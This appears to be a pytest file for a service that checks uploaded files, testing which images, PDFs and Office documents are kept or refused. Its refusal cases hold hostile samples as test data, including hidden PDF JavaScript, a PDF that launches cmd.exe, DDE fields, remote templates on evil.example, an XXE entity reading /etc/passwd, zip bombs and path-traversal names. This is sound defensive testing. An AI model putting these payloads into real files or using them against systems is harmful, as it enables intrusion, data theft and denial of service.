"""Files that people upload: what is kept of good ones, and that no harmful one gets through."""

import io
import random
import re
import zipfile
import zlib
from base64 import a85encode

import pytest
from PIL import Image

from safety.files import FileRefused, checked, checked_avatar
from safety.files.images import LONGEST_SIDE, MOST_PIXELS
from safety.files.refusals import (
    ALLOWED,
    Active,
    Empty,
    Encrypted,
    NameRefused,
    NotAllowed,
    PatientData,
    TooLarge,
    TooManyPixels,
    TooMuchInside,
    Unreadable,
)
from tests.safety.made_files import (
    field,
    gif_that_is_javascript,
    office,
    part,
    pdf,
    photo_of_leeds,
    picture,
    png_that_claims,
    png_with_text,
    relations,
    stream,
    workbook,
    zipped,
)

LARGEST = 10_000_000
SCRIPT = b"<script>alert(1)</script>"
NHS_NUMBER = "943 476 5919"


def kept(name: str, data: bytes):
    return checked(name, data, largest=LARGEST)


def opened(data: bytes) -> Image.Image:
    picture = Image.open(io.BytesIO(data))
    picture.load()
    return picture


# Kept: what it is by content, under a name with the ending of that.
GOOD = {
    "a photo": ("Photo.JPG", photo_of_leeds(), "jpeg", "Photo.jpg"),
    "a picture": ("chart.png", picture(), "png", "chart.png"),
    "a picture that can be seen through": (
        "chart.png",
        picture(mode="RGBA", colour="#005eb880"),
        "png",
        "chart.png",
    ),
    "a picture with a palette": ("chart.png", picture(mode="P", colour=3), "png", "chart.png"),
    "a picture for printing": ("chart.jpeg", picture("JPEG", mode="CMYK", colour=0), "jpeg", "chart.jpeg"),
    "a grey picture": ("chart.png", picture(mode="I;16", colour=900), "png", "chart.png"),
    "a GIF, as PNG": ("moving.gif", picture("GIF"), "png", "moving.png"),
    "a WebP": ("chart.webp", picture("WEBP"), "webp", "chart.webp"),
    "a PDF": ("Board pack.pdf", pdf(), "pdf", "Board pack.pdf"),
    "a PDF with links": ("a.pdf", pdf(b"<< /S /URI /URI (https://www.nhs.uk) >>"), "pdf", "a.pdf"),
    "a PDF that opens at a page": ("a.pdf", pdf(catalog=b"/OpenAction [3 0 R /Fit]"), "pdf", "a.pdf"),
    "a PDF with text filters": (
        "a.pdf",
        pdf(
            stream(
                b"0 0 m",
                extra=b"/Filter [/ASCII85Decode /FlateDecode]",
                pack=lambda it: a85encode(zlib.compress(it)) + b"~>",
            )
        ),
        "pdf",
        "a.pdf",
    ),
    "a Word file": ("Pathway redesign.docx", office(), "docx", "Pathway redesign.docx"),
    "a Word file with a link to click": (
        "a.docx",
        office(parts={"word/_rels/document.xml.rels": relations("hyperlink", "https://x.org/link/dde.html")}),
        "docx",
        "a.docx",
    ),
    "a workbook": ("Figures.xlsx", workbook(), "xlsx", "Figures.xlsx"),
    "a workbook of figures": (
        "Figures.xlsx",
        workbook(*(n * 1.0171717 for n in range(500))),
        "xlsx",
        "Figures.xlsx",
    ),
    "a presentation": ("Talk.pptx", office("pptx"), "pptx", "Talk.pptx"),
    "a presentation with a chart's workbook": (
        "Talk.pptx",
        office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}),
        "pptx",
        "Talk.pptx",
    ),
    "a name from a Windows path": (r"C:\Users\me\chart.png", picture(), "png", "chart.png"),
    "a name from a path": ("../../etc/passwd.png", picture(), "png", "passwd.png"),
    "a name of nothing but an ending": (".png", picture(), "png", "file.png"),
    "a name that turns text round": ("gpj‮exe.png", picture(), "png", "gpjexe.png"),
    "a name with markup": ('<img src="x">.png', picture(), "png", "img src= x.png"),
    "a name with line ends": ("a\r\nSet-Cookie: b.png", picture(), "png", "aSet-Cookie b.png"),
    "a long name": ("n" * 300 + ".png", picture(), "png", "n" * 116 + ".png"),
    "a name with dots": ("v1.2 final.docx.pdf", pdf(), "pdf", "v1.2 final.docx.pdf"),
    "a name in Welsh": ("Rhestr aros â ŵ.pdf", pdf(), "pdf", "Rhestr aros â ŵ.pdf"),
}


@pytest.mark.parametrize(("name", "data", "kind", "as_named"), GOOD.values(), ids=GOOD)
def test_is_kept(name: str, data: bytes, kind: str, as_named: str):
    file = kept(name, data)
    assert (file.kind.name, file.name) == (kind, as_named)


EMBEDDED = {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
BOMB = b"\0" * 130_000_000
OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
JAVASCRIPT = b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
REFUSED = {
    # Nothing, too much, and what is not taken at all.
    "nothing": ("a.pdf", b"", Empty),
    "too much": ("a.pdf", b"%PDF-1.7" + b"x" * LARGEST, TooLarge),
    "a web page": ("a.html", b"<!doctype html>" + SCRIPT, NotAllowed),
    "a web page called a picture": ("a.png", b"<html>" + SCRIPT, NotAllowed),
    "a drawing that can run scripts": (
        "a.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT,
        NotAllowed,
    ),
    "plain text": ("notes.txt", b"Waiting list", NotAllowed),
    "a table as text": ("a.csv", b"=HYPERLINK(1)", NotAllowed),
    "a program": ("a.exe", b"MZ\x90\0", NotAllowed),
    "a program called a PDF": ("a.pdf", b"MZ\x90\0" + pdf(), NotAllowed),
    "a script": ("a.js", b"alert(1)", NotAllowed),
    "an old Word file, which may have macros": (
        "a.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900,
        NotAllowed,
    ),
    "a locked Office file": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1EncryptedPackage", NotAllowed),
    "a zip of anything": ("a.zip", zipped({"a.txt": "hello"}), NotAllowed),
    "an OpenDocument": ("a.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), NotAllowed),
    "a Java archive called a Word file": (
        "a.docx",
        zipped({"META-INF/MANIFEST.MF": "", "A.class": b"\xca"}),
        NotAllowed,
    ),
    "a picture of a kind few can show": ("a.tiff", picture("TIFF"), NotAllowed),
    # Names.
    "another ending": ("chart.jpg", picture(), NameRefused),
    "a document's ending on a picture": ("chart.pdf", picture(), NameRefused),
    "a Word ending on a workbook": ("a.docx", workbook(), NameRefused),
    "the ending of a file with macros": ("a.docm", office(), NameRefused),
    "no ending": ("chart", picture(), NameRefused),
    "a script's ending": ("chart.php", picture(), NameRefused),
    "two endings": ("report.exe.pdf", pdf(), NameRefused),
    "two endings, the second for show": ("chart.php.png", picture(), NameRefused),
    "two endings with a space": ("run.js .png", picture(), NameRefused),
    "a NUL in its name": ("chart.php\0.png", picture(), NameRefused),
    "an NHS number in its name": ("Letter 9434765919.pdf", pdf(), NameRefused),
    "an NHS number in its name, with dashes": ("letter_943-476-5919.pdf", pdf(), NameRefused),
    "an NHS number in its name, with underscores": ("943_476_5919_letter.pdf", pdf(), NameRefused),
    # Pictures.
    "a picture cut short": ("a.png", picture(size=(400, 400))[:-60], Unreadable),
    "a photo cut short": ("a.jpg", photo_of_leeds(size=(640, 480))[:-2000], Unreadable),
    "a header and nothing": ("a.png", b"\x89PNG\r\n\x1a\n", Unreadable),
    "a header and a web page": ("a.gif", b"GIF89a" + SCRIPT, Unreadable),
    "a picture that claims more than a wall": ("a.png", png_that_claims(60_000, 60_000), TooManyPixels),
    "a picture that claims a little too much": (
        "a.png",
        png_that_claims(6000, MOST_PIXELS // 6000 + 1),
        TooManyPixels,
    ),
    "a picture that claims a line": ("a.png", png_that_claims(2_000_000_000, 1), TooManyPixels),
    # PDFs.
    "a PDF with a script": ("a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), Active),
    "a PDF with a script in escapes": (
        "a.pdf",
        pdf(b"<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"),
        Active,
    ),
    "a PDF with a script packed away": ("a.pdf", pdf(stream(JAVASCRIPT, extra=OBJECTS)), Active),
    "a PDF with a script packed twice": (
        "a.pdf",
        pdf(stream(JAVASCRIPT, extra=OBJECTS, pack=lambda it: zlib.compress(zlib.compress(it)))),
        Active,
    ),
    "a PDF with a script packed as text": (
        "a.pdf",
        pdf(
            stream(
                JAVASCRIPT,
                extra=b"/Filter[/A85/FlateDecode]",
                pack=lambda it: a85encode(zlib.compress(it)) + b"~>",
            )
        ),
        Active,
    ),
    "a PDF with a script packed as digits": (
        "a.pdf",
        pdf(stream(JAVASCRIPT, extra=b"/Filter /ASCIIHexDecode", pack=lambda it: it.hex().encode() + b">")),
        Active,
    ),
    "a PDF with objects scrambled": (
        "a.pdf",
        pdf(stream(JAVASCRIPT, extra=OBJECTS + b"/DecodeParms << /Predictor 12 >>")),
        Unreadable,
    ),
    "a PDF packed as nobody does": (
        "a.pdf",
        pdf(stream(b"x", extra=b"/Filter /LZWDecode", pack=bytes)),
        Unreadable,
    ),
    "a PDF with a script hidden in a page": ("a.pdf", pdf(stream(JAVASCRIPT, extra=b"", pack=bytes)), Active),
    "a PDF that starts a program": (
        "a.pdf",
        pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        Active,
    ),
    "a PDF that sends a form": ("a.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), Active),
    "a PDF with a file in it": ("a.pdf", pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), Active),
    "a PDF with a form that runs": ("a.pdf", pdf(catalog=b"/AcroForm << /XFA 5 0 R >>"), Active),
    "a PDF with a film": ("a.pdf", pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), Active),
    "a PDF with a password": ("a.pdf", pdf(trailer=b"/Encrypt 9 0 R"), Encrypted),
    "a PDF cut short": ("a.pdf", pdf()[:-40], Unreadable),
    "a PDF with a web page behind it": ("a.pdf", pdf(end=SCRIPT), Unreadable),
    "a PDF that is a zip too": ("a.pdf", pdf(end=zipped({"a.js": "alert(1)"})), Unreadable),
    "a zip in a PDF that ends as one": (
        "a.pdf",
        pdf(stream(zipped({"a": "b"}), pack=bytes, extra=b"")),
        Unreadable,
    ),
    "a web page that is a PDF too": ("a.pdf", SCRIPT + pdf(), NotAllowed),
    "a PDF that unpacks without end": ("a.pdf", pdf(*[stream(BOMB)] * 2), TooMuchInside),
    # Office files.
    "a Word file with macros": ("a.docx", office(parts={"word/vbaProject.bin": b"\xd0\xcf"}), Active),
    "a Word file with macros, called otherwise": ("a.docx", office(content_type=MACRO_TYPE), Active),
    "a workbook with old macros": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), Active),
    "a workbook with an object": ("a.xlsx", office("xlsx", EMBEDDED), Active),
    "a Word file with a control": ("a.docx", office(parts={"word/activeX/activeX1.xml": "<a/>"}), Active),
    "a Word file with a program": ("a.docx", office(parts={"word/media/run.exe": b"MZ"}), Active),
    "a presentation whose chart has macros": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"\xd0"})}),
        Active,
    ),
    "a file in a file in a file": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.docx": office(parts={"word/embeddings/b.xlsx": workbook()})}),
        Active,
    ),
    "a Word file with a template elsewhere": (
        "a.docx",
        office(
            parts={
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm")
            }
        ),
        Active,
    ),
    "a Word file with a picture elsewhere": (
        "a.docx",
        office(parts={"word/_rels/document.xml.rels": relations("image", "https://evil.example/seen.png")}),
        Active,
    ),
    "a workbook linked to another": (
        "a.xlsx",
        office(
            "xlsx", {"xl/externalLinks/_rels/a.xml.rels": relations("externalLinkPath", "file:///S:/b.xlsx")}
        ),
        Active,
    ),
    "a workbook that asks programs": (
        "a.xlsx",
        office(
            "xlsx", {"xl/externalLinks/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        Active,
    ),
    "a Word file that asks programs": (
        "a.docx",
        office(parts={"word/document.xml": part(inside=field("DD", "EAUTO c:\\cmd.exe"))}),
        Active,
    ),
    "a Word file that asks programs at once": (
        "a.docx",
        office(parts={"word/document.xml": part(inside='<w:fldSimple w:instr="DDE &#67;md"/>')}),
        Active,
    ),
    "a Word file that unfolds without end": (
        "a.docx",
        office(parts={"word/document.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
        Unreadable,
    ),
    "a Word file that reads other files": (
        "a.docx",
        office(
            parts={"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
        ),
        Unreadable,
    ),
    "a Word file of broken parts": ("a.docx", office(parts={"word/document.xml": "<w:document"}), Unreadable),
    "a zip bomb": ("a.docx", office(parts={"word/media/a.png": BOMB}), TooMuchInside),
    "a smaller zip bomb": ("a.docx", office(parts={"word/media/a.png": BOMB[:20_000_000]}), TooMuchInside),
    "a zip of very many parts": (
        "a.docx",
        office(parts={f"word/media/{n}.png": b"" for n in range(5000)}),
        TooMuchInside,
    ),
    "a zip that leaves its folder": ("a.docx", office(parts={"../../evil.xml": "<a/>"}), Unreadable),
    "a zip with an absolute name": ("a.docx", office(parts={"/etc/evil.xml": "<a/>"}), Unreadable),
    "a zip with two of a name": ("a.docx", office(parts={"WORD/document.xml": part()}), Unreadable),
    "a zip packed as Office never does": ("a.docx", office(packing=zipfile.ZIP_LZMA), Unreadable),
    "a zip with something behind it": ("a.docx", office() + SCRIPT, Unreadable),
    "a zip with something before it": ("a.docx", SCRIPT + office(), NotAllowed),
    "a zip cut short": ("a.docx", office()[:-30], Unreadable),
    "two kinds in one": ("a.docx", office(parts={"xl/workbook.xml": "<a/>"}), NotAllowed),
    "a Word file that says it is another kind": ("a.docx", office(content_type="text/html"), NotAllowed),
    # Patients in documents.
    "a Word file about a patient": (
        "a.docx",
        office(parts={"word/document.xml": part(f"Seen: {NHS_NUMBER}")}),
        PatientData,
    ),
    "a Word file about a patient, in pieces": (
        "a.docx",
        office(parts={"word/document.xml": part("943 476", inside="<w:r><w:t> 5919</w:t></w:r>")}),
        PatientData,
    ),
    "a workbook with NHS numbers": ("a.xlsx", workbook("number", 9434765919), PatientData),
    "a comment about a patient": (
        "a.docx",
        office(parts={"word/comments.xml": part("date of birth 4 May 1961")}),
        PatientData,
    ),
    "a chart's workbook about patients": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.xlsx": workbook(NHS_NUMBER)}),
        PatientData,
    ),
}


@pytest.mark.parametrize(("name", "data", "why"), REFUSED.values(), ids=REFUSED)
def test_is_refused(name: str, data: bytes, why: type[FileRefused]):
    with pytest.raises(why) as refused:
        kept(name, data)
    assert re.fullmatch(r"[A-Z].*[.)]", str(refused.value))


def test_what_is_not_taken_is_told_what_is():
    with pytest.raises(NotAllowed, match=re.escape(ALLOWED)):
        kept("a.html", SCRIPT)


def test_an_avatar_is_told_that_pictures_are_taken():
    with pytest.raises(NotAllowed, match="Choose a picture: JPEG, PNG, GIF or WebP"):
        checked_avatar("a.pdf", pdf(), largest=LARGEST)


def test_a_photo_keeps_nothing_but_its_pixels():
    sent = photo_of_leeds()
    assert Image.open(io.BytesIO(sent)).getexif()

    drawn = kept("a.jpg", sent).data
    assert dict(opened(drawn).getexif()) == {}
    assert b"phone" not in drawn
    assert b"ward 7" not in drawn
    assert b"Exif" not in drawn


def test_a_photo_is_turned_as_it_was_meant_to_be_seen():
    drawn = opened(kept("a.jpg", photo_of_leeds(orientation=6, size=(64, 48))).data)
    assert drawn.size == (48, 64)
    assert drawn.getpixel((46, 1))[0] > 200  # turned right, the white corner is at the top right
    assert drawn.getpixel((1, 1))[0] < 50


@pytest.mark.parametrize(
    ("name", "sent"),
    [
        ("a.gif", gif_that_is_javascript()),
        ("a.gif", picture("GIF") + SCRIPT),
        ("a.png", picture() + SCRIPT),
        ("a.png", png_with_text("<script>alert(1)</script>")),
        ("a.jpg", picture("JPEG", comment=SCRIPT)),
        ("a.jpg", picture("JPEG") + zipped({"a.js": "alert(1)"})),
        ("a.webp", picture("WEBP", exif=b"Exif\0\0II*\0\x08\0\0\0\0\0<script>alert(1)</script>") + SCRIPT),
        ("a.png", picture() + pdf()),
    ],
    ids=["GIF+JS", "GIF+HTML", "PNG+HTML", "text in PNG", "comment in JPEG", "JPEG+zip", "WebP", "PNG+PDF"],
)
def test_a_picture_that_is_something_else_too_is_a_picture_alone(name: str, sent: bytes):
    try:
        drawn = kept(name, sent).data
    except Unreadable:
        return
    assert opened(drawn)
    assert not re.search(rb"script|alert|%PDF|PK\x03\x04", drawn)
    assert not zipfile.is_zipfile(io.BytesIO(drawn))


def test_a_large_picture_is_drawn_smaller():
    drawn = opened(kept("a.png", picture(size=(5000, 1000))).data)
    assert drawn.size == (LONGEST_SIDE, LONGEST_SIDE // 5)


@pytest.mark.parametrize("size", [(900, 300), (300, 900), (20, 20)])
def test_an_avatar_is_a_small_square(size: tuple[int, int]):
    drawn = checked_avatar("On holiday.png", picture(size=size), largest=LARGEST)
    assert (opened(drawn.data).size, drawn.kind.name, drawn.name) == ((256, 256), "jpeg", "picture.jpg")


def test_an_avatar_that_can_be_seen_through_stands_on_white():
    drawn = checked_avatar("a.png", picture(mode="RGBA", colour="#00000000"), largest=LARGEST)
    assert opened(drawn.data).getpixel((128, 128)) == (255, 255, 255)


def test_documents_are_kept_byte_by_byte():
    for name, data in (("a.pdf", pdf()), ("a.docx", office()), ("a.xlsx", workbook())):
        assert kept(name, data).data == data


@pytest.mark.filterwarnings("ignore::UserWarning:PIL")  # Pillow tells of damaged metadata and goes on
@pytest.mark.parametrize(
    ("name", "whole"),
    [
        ("a.png", picture()),
        ("a.jpg", photo_of_leeds()),
        ("a.gif", picture("GIF")),
        ("a.webp", picture("WEBP")),
        ("a.pdf", pdf(stream(JAVASCRIPT, extra=OBJECTS))),
        ("a.docx", office()),
        ("a.xlsx", workbook()),
    ],
    ids=lambda it: it if isinstance(it, str) else "",
)
def test_a_damaged_file_is_refused_or_kept_but_never_an_error(name: str, whole: bytes):
    chance = random.Random(name)
    for _ in range(150):
        damaged = bytearray(whole)
        for _ in range(chance.randrange(1, 12)):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        try:
            kept(
                name,
                bytes(damaged[: chance.randrange(1, len(damaged) + 1)] if chance.random() < 0.3 else damaged),
            )
        except FileRefused:
            continue
